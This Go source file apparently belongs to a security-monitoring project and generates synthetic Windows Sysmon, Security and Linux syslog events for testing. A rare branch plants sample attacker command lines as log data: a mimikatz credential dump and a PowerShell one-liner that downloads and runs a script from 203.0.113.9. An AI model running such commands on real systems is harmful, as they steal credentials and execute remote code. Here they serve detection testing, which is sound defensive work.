// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/koban-csirt/koban/internal/event"
)

// gen makes a reproducible stream of events in time order. The mix is a
// small Windows-and-Linux shop: 40% process creation (Sysmon 1, Security
// 4688), 25% network connections (Sysmon 3), 15% logons (4624, one in five
// failed: 4625), 20% Linux syslog (sshd, sudo, cron, kernel). Values are
// drawn with a skew, so a few hosts, users and programs are common and
// most are rare, as in real logs; GUIDs, process ids and ports are unique.
type gen struct {
	r        *rand.Rand
	t0, span int64
	i, n     int

	hosts, linuxHosts, users, domains, images, parents, failReasons []string
	hashes                                                          map[string]string
	raw                                                             strings.Builder
}

func newGen(seed uint64, from, to time.Time, n int) *gen {
	g := &gen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), t0: from.UnixNano(), span: to.Sub(from).Nanoseconds(), n: n}
	for i := range 450 {
		g.hosts = append(g.hosts, fmt.Sprintf("WS-%04d.corp.example", i))
	}
	for i := range 40 {
		g.hosts = append(g.hosts, fmt.Sprintf("SRV-%s%02d.corp.example", []string{"DC", "FS", "SQL", "APP"}[i%4], i))
	}
	for i := range 30 {
		g.linuxHosts = append(g.linuxHosts, fmt.Sprintf("%s%02d", []string{"web", "db", "build", "mail", "vpn"}[i%5], i))
	}
	first := []string{"taro", "hanako", "alice", "bob", "carol", "dave", "erin", "frank", "yuki", "kenji", "sakura", "hiroshi", "mei", "sota", "aoi"}
	last := []string{"sato", "suzuki", "takahashi", "tanaka", "watanabe", "ito", "yamamoto", "nakamura", "kobayashi", "kato", "smith", "jones", "brown"}
	for i := range 2000 {
		g.users = append(g.users, first[i%len(first)]+"."+last[(i/len(first))%len(last)]+strconv.Itoa(i/(len(first)*len(last))))
	}
	g.users = append([]string{"administrator", "SYSTEM", "svc_backup", "svc_sql", "LOCAL SERVICE", "NETWORK SERVICE"}, g.users...)
	g.domains = []string{"CORP", "NT AUTHORITY", "WORKGROUP"}
	for _, dir := range []string{`C:\Windows\System32\`, `C:\Windows\SysWOW64\`} {
		for _, exe := range []string{"svchost.exe", "cmd.exe", "conhost.exe", "WindowsPowerShell\\v1.0\\powershell.exe", "rundll32.exe",
			"taskhostw.exe", "wbem\\WmiPrvSE.exe", "SearchProtocolHost.exe", "RuntimeBroker.exe", "backgroundTaskHost.exe",
			"net.exe", "net1.exe", "whoami.exe", "reg.exe", "schtasks.exe", "sc.exe", "msiexec.exe", "dllhost.exe", "wevtutil.exe", "certutil.exe"} {
			g.images = append(g.images, dir+exe)
		}
	}
	g.images = append(g.images, []string{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
		`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
		`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `C:\Program Files\Mozilla Firefox\firefox.exe`,
		`C:\Program Files\7-Zip\7z.exe`, `C:\Program Files\Git\cmd\git.exe`, `C:\Program Files\nodejs\node.exe`,
		`C:\Program Files\Microsoft VS Code\Code.exe`, `C:\Program Files\Zoom\bin\Zoom.exe`, `C:\Program Files\Slack\slack.exe`}...)
	for i := range 150 {
		g.images = append(g.images, fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\setup_%d.exe`, g.users[10+i*7], i))
	}
	g.parents = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\System32\svchost.exe`,
		`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\System32\wininit.exe`,
		`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `C:\Windows\System32\taskeng.exe`, `C:\Windows\System32\userinit.exe`}
	g.failReasons = []string{"%%2313 Unknown user name or bad password.", "%%2304 An error occurred during logon.", "%%2307 Account locked out."}
	g.hashes = make(map[string]string)
	for _, img := range g.images {
		var b [32]byte
		binary.LittleEndian.PutUint64(b[:], g.r.Uint64())
		binary.LittleEndian.PutUint64(b[8:], g.r.Uint64())
		binary.LittleEndian.PutUint64(b[16:], g.r.Uint64())
		binary.LittleEndian.PutUint64(b[24:], g.r.Uint64())
		g.hashes[img] = "SHA256=" + strings.ToUpper(hex.EncodeToString(b[:]))
	}
	return g
}

// skew picks an index into a list of n with a heavy head.
func (g *gen) skew(n int) int {
	u := g.r.Float64()
	return int(float64(n) * u * u * u)
}

func (g *gen) pick(list []string) string { return list[g.skew(len(list))] }

func (g *gen) guid() string {
	a, b := g.r.Uint64(), g.r.Uint64()
	return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", uint32(a), uint16(a>>32), uint16(a>>48), uint16(b), b>>16)
}

func (g *gen) ip() string {
	switch g.r.IntN(10) {
	case 0, 1, 2:
		return "10.0." + strconv.Itoa(g.skew(40)) + "." + strconv.Itoa(1+g.r.IntN(254))
	case 3:
		return "203.0.113." + strconv.Itoa(1+g.r.IntN(254))
	case 4:
		return "192.168.1." + strconv.Itoa(1+g.r.IntN(254))
	}
	return strconv.Itoa(1+g.r.IntN(223)) + "." + strconv.Itoa(g.r.IntN(256)) + "." + strconv.Itoa(g.r.IntN(256)) + "." + strconv.Itoa(1+g.r.IntN(254))
}

// next returns the next event.
func (g *gen) next() event.Event {
	ns := g.t0 + int64(float64(g.span)*float64(g.i)/float64(g.n)) + g.r.Int64N(int64(time.Second))
	g.i++
	e := event.Event{Time: ns, Received: ns + g.r.Int64N(int64(2*time.Second)), Source: "winlogbeat"}
	binary.BigEndian.PutUint64(e.ID[:8], uint64(e.Received))
	binary.BigEndian.PutUint64(e.ID[8:], g.r.Uint64())
	switch k := g.r.IntN(100); {
	case k < 40:
		g.process(&e)
	case k < 65:
		g.network(&e)
	case k < 80:
		g.logon(&e)
	default:
		g.syslog(&e)
		return e
	}
	e.Log.Product = "windows"
	e.Raw = g.json(&e)
	return e
}

func (g *gen) windows(e *event.Event, channel, provider string, id int) {
	e.Host = g.pick(g.hosts)
	e.Add("EventID", strconv.Itoa(id))
	e.Add("Channel", channel)
	e.Add("Provider_Name", provider)
	e.Add("Computer", e.Host)
}

func (g *gen) commandLine(image string) string {
	exe := image[strings.LastIndexByte(image, '\\')+1:]
	switch {
	case g.r.IntN(100_000) == 0:
		return `C:\Users\Public\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`
	case g.r.IntN(100_000) == 0:
		return `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1'); Invoke-Mimikatz -DumpCreds"`
	case strings.EqualFold(exe, "svchost.exe"):
		return image + " -k " + []string{"netsvcs", "LocalService", "NetworkService", "DcomLaunch", "RPCSS"}[g.skew(5)] + " -p -s " + []string{"Schedule", "BITS", "wuauserv", "Winmgmt", "Dnscache"}[g.r.IntN(5)]
	case strings.EqualFold(exe, "powershell.exe"):
		if g.r.IntN(50) == 0 {
			var b [48]byte
			for i := range b {
				b[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[g.r.IntN(64)]
			}
			return image + " -NoProfile -EncodedCommand " + string(b[:])
		}
		return image + ` -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\scripts\inventory_` + strconv.Itoa(g.r.IntN(40)) + ".ps1"
	case strings.EqualFold(exe, "cmd.exe"):
		return image + ` /c "` + []string{"dir", "echo", "copy", "del", "type", "whoami", "ipconfig /all", "net user"}[g.skew(8)] + ` C:\Users\` + g.pick(g.users) + `\Documents\report_` + strconv.Itoa(g.r.IntN(5000)) + `.docx"`
	case strings.Contains(image, `\Temp\`):
		return `"` + image + `" /S /D=C:\Program Files\App` + strconv.Itoa(g.r.IntN(100))
	}
	return `"` + image + `" ` + []string{"", "--type=renderer --field-trial-handle=" + strconv.Itoa(g.r.IntN(1<<20)), "/automation -Embedding", "-ServerName:App.AppX" + strconv.Itoa(g.r.IntN(1000)) + ".mca"}[g.skew(4)]
}

func (g *gen) process(e *event.Event) {
	image := g.pick(g.images)
	user := g.pick(g.users)
	parent := g.pick(g.parents)
	cmd := g.commandLine(image)
	e.Log.Category = "process_creation"
	if g.r.IntN(10) < 7 {
		e.Log.Service = "sysmon"
		g.windows(e, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1)
		e.Add("RuleName", "-")
		e.Add("UtcTime", time.Unix(0, e.Time).UTC().Format("2006-01-02 15:04:05.000"))
		e.Add("ProcessGuid", g.guid())
		e.Add("ProcessId", strconv.Itoa(4+g.r.IntN(60000)*4))
		e.Add("Image", image)
		e.Add("FileVersion", "10.0.19041."+strconv.Itoa(g.r.IntN(4000)))
		e.Add("OriginalFileName", strings.ToUpper(image[strings.LastIndexByte(image, '\\')+1:]))
		e.Add("CommandLine", cmd)
		e.Add("CurrentDirectory", `C:\Windows\system32\`)
		e.Add("User", g.domains[0]+`\`+user)
		e.Add("LogonGuid", g.guid())
		e.Add("LogonId", "0x"+strconv.FormatUint(g.r.Uint64()&0xffffff, 16))
		e.Add("TerminalSessionId", strconv.Itoa(g.r.IntN(3)))
		e.Add("IntegrityLevel", []string{"Medium", "High", "System"}[g.skew(3)])
		e.Add("Hashes", g.hashes[image])
		e.Add("ParentProcessGuid", g.guid())
		e.Add("ParentProcessId", strconv.Itoa(4+g.r.IntN(60000)*4))
		e.Add("ParentImage", parent)
		e.Add("ParentCommandLine", parent)
		e.Add("ParentUser", g.domains[0]+`\`+user)
		return
	}
	e.Log.Service = "security"
	g.windows(e, "Security", "Microsoft-Windows-Security-Auditing", 4688)
	e.Add("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-"+strconv.Itoa(1000+g.skew(2000)))
	e.Add("SubjectUserName", user)
	e.Add("SubjectDomainName", g.domains[0])
	e.Add("SubjectLogonId", "0x"+strconv.FormatUint(g.r.Uint64()&0xffffff, 16))
	e.Add("NewProcessId", "0x"+strconv.FormatUint(uint64(g.r.IntN(60000)*4), 16))
	e.Add("Image", image)
	e.Add("TokenElevationType", "%%1936")
	e.Add("ProcessId", "0x"+strconv.FormatUint(uint64(g.r.IntN(60000)*4), 16))
	e.Add("CommandLine", cmd)
	e.Add("ParentImage", parent)
	e.Add("MandatoryLabel", "S-1-16-8192")
}

func (g *gen) network(e *event.Event) {
	image := g.pick(g.images)
	e.Log.Category, e.Log.Service = "network_connection", "sysmon"
	g.windows(e, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 3)
	e.Add("RuleName", "-")
	e.Add("UtcTime", time.Unix(0, e.Time).UTC().Format("2006-01-02 15:04:05.000"))
	e.Add("ProcessGuid", g.guid())
	e.Add("ProcessId", strconv.Itoa(4+g.r.IntN(60000)*4))
	e.Add("Image", image)
	e.Add("User", g.domains[0]+`\`+g.pick(g.users))
	e.Add("Protocol", []string{"tcp", "udp"}[g.skew(2)])
	e.Add("Initiated", "true")
	e.Add("SourceIsIpv6", "false")
	e.Add("SourceIp", "10.0."+strconv.Itoa(g.skew(40))+"."+strconv.Itoa(1+g.r.IntN(254)))
	e.Add("SourceHostname", e.Host)
	e.Add("SourcePort", strconv.Itoa(49152+g.r.IntN(16384)))
	e.Add("DestinationIsIpv6", "false")
	e.Add("DestinationIp", g.ip())
	e.Add("DestinationHostname", []string{"www.example.com", "login.microsoftonline.com", "update.example.net", "cdn.example.org", "-"}[g.skew(5)])
	e.Add("DestinationPort", []string{"443", "80", "53", "445", "3389", "22", "8080"}[g.skew(7)])
	e.Add("DestinationPortName", "-")
}

func (g *gen) logon(e *event.Event) {
	id := 4624
	if g.r.IntN(5) == 0 {
		id = 4625
	}
	e.Log.Service = "security"
	g.windows(e, "Security", "Microsoft-Windows-Security-Auditing", id)
	e.Add("SubjectUserSid", "S-1-5-18")
	e.Add("SubjectUserName", strings.ToUpper(strings.SplitN(e.Host, ".", 2)[0])+"$")
	e.Add("SubjectDomainName", g.domains[0])
	e.Add("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-"+strconv.Itoa(1000+g.skew(2000)))
	e.Add("TargetUserName", g.pick(g.users))
	e.Add("TargetDomainName", g.domains[g.skew(3)])
	e.Add("LogonType", []string{"3", "2", "10", "5", "7", "11"}[g.skew(6)])
	e.Add("LogonProcessName", "NtLmSsp")
	e.Add("AuthenticationPackageName", []string{"NTLM", "Kerberos", "Negotiate"}[g.skew(3)])
	e.Add("WorkstationName", strings.ToUpper(strings.SplitN(g.pick(g.hosts), ".", 2)[0]))
	e.Add("IpAddress", g.ip())
	e.Add("IpPort", strconv.Itoa(g.r.IntN(65536)))
	if id == 4625 {
		e.Add("Status", "0xc000006d")
		e.Add("FailureReason", g.failReasons[g.skew(len(g.failReasons))])
		e.Add("SubStatus", []string{"0xc000006a", "0xc0000064", "0xc0000234"}[g.skew(3)])
	} else {
		e.Add("LogonGuid", g.guid())
		e.Add("ElevatedToken", "%%1842")
	}
}

func (g *gen) syslog(e *event.Event) {
	e.Source, e.Host = "syslog-tcp", g.pick(g.linuxHosts)
	e.Log.Product = "linux"
	pid := strconv.Itoa(300 + g.r.IntN(60000))
	user, ip, port := g.pick(g.users), g.ip(), strconv.Itoa(1024+g.r.IntN(64000))
	var program, msg string
	switch k := g.r.IntN(10); {
	case k < 4:
		program = "sshd"
		e.Log.Service = "sshd"
		switch g.r.IntN(4) {
		case 0:
			msg = "Failed password for invalid user " + user + " from " + ip + " port " + port + " ssh2"
		case 1:
			msg = "Accepted publickey for " + user + " from " + ip + " port " + port + " ssh2: ED25519 SHA256:" + strconv.FormatUint(g.r.Uint64(), 36)
		case 2:
			msg = "Connection closed by " + ip + " port " + port + " [preauth]"
		default:
			msg = "pam_unix(sshd:session): session opened for user " + user + "(uid=" + strconv.Itoa(1000+g.skew(2000)) + ") by (uid=0)"
		}
	case k < 5:
		program, e.Log.Service = "sudo", "sudo"
		msg = user + " : TTY=pts/" + strconv.Itoa(g.r.IntN(5)) + " ; PWD=/home/" + user + " ; USER=root ; COMMAND=/usr/bin/" + []string{"systemctl restart nginx", "apt-get upgrade", "journalctl -u sshd", "cat /etc/shadow"}[g.skew(4)]
	case k < 8:
		program, e.Log.Service = "CRON", "cron"
		msg = "(" + []string{"root", "www-data", user}[g.skew(3)] + ") CMD (" + []string{"/usr/lib/php/sessionclean", "run-parts /etc/cron.hourly", "/opt/backup/run.sh"}[g.skew(3)] + ")"
	default:
		program, e.Log.Service = "kernel", "kernel"
		msg = "[UFW BLOCK] IN=eth0 OUT= SRC=" + ip + " DST=10.0.0." + strconv.Itoa(1+g.r.IntN(50)) + " PROTO=TCP SPT=" + port + " DPT=" + []string{"22", "23", "445", "3389"}[g.skew(4)]
	}
	e.Add("program", program)
	e.Add("pid", pid)
	e.Add("message", msg)
	e.Add("facility", "auth")
	e.Add("severity", "info")
	ts := time.Unix(0, e.Time).UTC()
	e.Raw = []byte("<38>" + ts.Format(time.Stamp) + " " + e.Host + " " + program + "[" + pid + "]: " + msg)
}

// json renders the event's fields as a Winlogbeat-like JSON object.
func (g *gen) json(e *event.Event) []byte {
	g.raw.Reset()
	g.raw.WriteString(`{"@timestamp":"`)
	g.raw.WriteString(time.Unix(0, e.Time).UTC().Format(time.RFC3339Nano))
	g.raw.WriteString(`","winlog":{"event_data":{`)
	for i, f := range e.Fields {
		if i > 0 {
			g.raw.WriteByte(',')
		}
		g.raw.WriteString(strconv.Quote(f.Name()))
		g.raw.WriteByte(':')
		g.raw.WriteString(strconv.Quote(f.Value))
	}
	g.raw.WriteString(`}}}`)
	return []byte(g.raw.String())
}
